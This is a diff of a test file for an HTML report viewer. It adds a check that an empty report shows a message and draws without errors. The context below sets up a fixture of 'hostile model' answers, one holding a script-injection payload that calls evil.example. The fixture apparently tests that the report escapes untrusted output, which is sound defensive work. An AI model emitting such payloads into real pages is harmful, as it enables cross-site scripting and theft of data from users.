@@ -180,6 +180,19 @@ describe('a report of 10,000 cases', () => {
   });
 });
 
+describe('a report with no case', () => {
+  it('says so, and draws without an error', async () => {
+    const dir = join(scratch, 'empty');
+    mkdirSync(dir);
+    const { html } = await writeReports(largeResult(0), dir);
+    const { page, misdeeds } = await openReport(browser, html);
+    expect(await countOf(page)).toEqual({ shown: 0, total: 0 });
+    expect(await page.textContent('.detail-pane')).toBe('This report has no case: no prompt was run.');
+    expect(await page.locator('figure.chart .muted').count()).toBe(3);
+    expect(misdeeds).toEqual([]);
+  });
+});
+
 /** Answers a hostile model gives under the head prompt, one per question of the fixture. */
 const HOSTILE: Record<string, string> = {
   'return a tent': '<script>window.__pwned = 1; fetch("https://evil.example/x")</script>Sure!',
